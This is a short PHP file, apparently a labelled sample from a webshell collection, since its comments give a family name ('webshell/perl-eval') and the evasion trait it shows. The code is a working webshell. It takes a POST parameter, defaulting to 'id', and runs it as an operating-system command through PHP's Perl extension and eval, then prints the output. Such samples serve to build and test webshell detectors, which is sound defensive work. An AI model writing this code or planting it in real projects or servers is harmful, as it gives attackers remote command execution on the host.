<?php
// Family: webshell/perl-eval
// Style: command run through PHP's perl extension instead of the usual functions
// Trait: new Perl() and its eval() method given a system() call with request data
$c = isset($_POST['c']) ? $_POST['c'] : 'id';
$p = new Perl();
ob_start();
$p->eval("system('" . addslashes($c) . "')");
echo htmlspecialchars(ob_get_clean());
